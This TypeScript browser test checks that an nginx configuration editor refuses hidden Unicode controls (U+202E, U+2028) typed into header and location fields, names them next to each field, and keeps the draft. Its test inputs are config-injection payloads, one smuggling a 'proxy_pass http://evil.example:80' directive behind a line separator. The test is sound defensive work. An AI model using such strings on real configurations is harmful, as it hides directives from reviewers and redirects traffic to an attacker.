// Typed into an editor in real chromium, a character that makes nginx.conf read other than it is
// (a bidirectional control such as U+202E, or U+2028 that editors break lines at) is named by its
// code point next to the field, Apply stays off and refuses it, and the draft keeps what was
// typed. (A header value "v<U+202E>;..." exported as it was showed, in the nginx.conf view, a second
// proxy_set_header that nginx never reads.)
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Locator, Page } from 'playwright-core';
import { echoUiHost } from './echo-ui.ts';

const env = echoUiHost();

/** `field` is marked, and its message (next to it, in its column) names the character. */
async function named(page: Page, field: Locator, path: string, message: string): Promise<void> {
  const issue = page.locator(`[data-issue="${path}"]`).filter({ hasText: message });
  await issue.waitFor();
  assert.equal(await issue.getAttribute('data-code'), 'hidden_control');
  assert.equal(await field.getAttribute('aria-invalid'), 'true');
  const f = (await field.boundingBox())!;
  const i = (await issue.boundingBox())!;
  assert.ok(i.y >= f.y - 2 && i.y <= f.y + f.height + 40, `${path}: the message is next to the field`);
  assert.ok(i.x < f.x + f.width && i.x + i.width > f.x, `${path}: the message is in the field's column`);
}

test('a bidirectional control or a line separator typed into a field is refused by name, and the draft keeps it', { timeout: 90_000 }, async () => {
  const running = await env.ui.service.handlers.getConfig({});
  assert.ok(running.ok);
  await env.ui.service.handle('setDraft', { draft: running.value.applied });
  const { context, page, errors } = await env.ui.open();
  try {
    await page.getByTestId('location-0-0').click();
    await page.getByRole('button', { name: '+ Header' }).click();
    await page.getByLabel('Header 1 name').fill('X-A');
    const value = page.getByLabel('Header 1 value');
    const label = page.getByTestId('loc-name');
    const rlo = 'v\u202e;"lave" A-X redaeh_tes_yxorp';
    const ls = 'api\u2028proxy_pass http://evil.example:80';
    await value.fill(rlo);
    await label.fill(ls);
    const L = 'servers[0].locations[0]';
    await named(page, value, `${L}.proxySetHeader[0].value`, 'character 2 is U+202E, a bidirectional control: nginx.conf would read other than it is');
    await named(page, label, `${L}.name`, 'character 4 is U+2028, which editors may break a line at');
    await env.ui.shot(page, 'hidden-controls');

    const apply = page.getByTestId('apply');
    assert.equal(await apply.getAttribute('aria-disabled'), 'true');
    await apply.click({ force: true });
    await page.waitForTimeout(300);
    // nothing ran, nothing was lost: the fields and the service's draft hold what was typed
    assert.equal(await value.inputValue(), rlo);
    assert.equal(await label.inputValue(), ls);
    const state = await env.ui.service.handlers.getConfig({});
    assert.ok(state.ok);
    const draft = state.value.draft as { servers: Array<{ locations: Array<{ name?: string; proxySetHeader: Array<{ value: string }> }> }> };
    assert.equal(draft.servers[0]!.locations[0]!.proxySetHeader[0]!.value, rlo);
    assert.equal(draft.servers[0]!.locations[0]!.name, ls);
    const applied = state.value.applied as { servers: Array<{ locations: Array<{ proxySetHeader?: Array<{ value: string }> }> }> };
    assert.deepEqual(applied.servers[0]!.locations[0]!.proxySetHeader ?? [], [], 'the running config is as it was');
    // and the service refuses it too
    const r = await env.ui.service.handle('apply', { draft });
    assert.ok(!r.ok || (r.value as { ok?: boolean }).ok === false, `apply refused: ${JSON.stringify(r).slice(0, 300)}`);
    assert.deepEqual(errors, []);
  } finally {
    await context.close();
  }
});
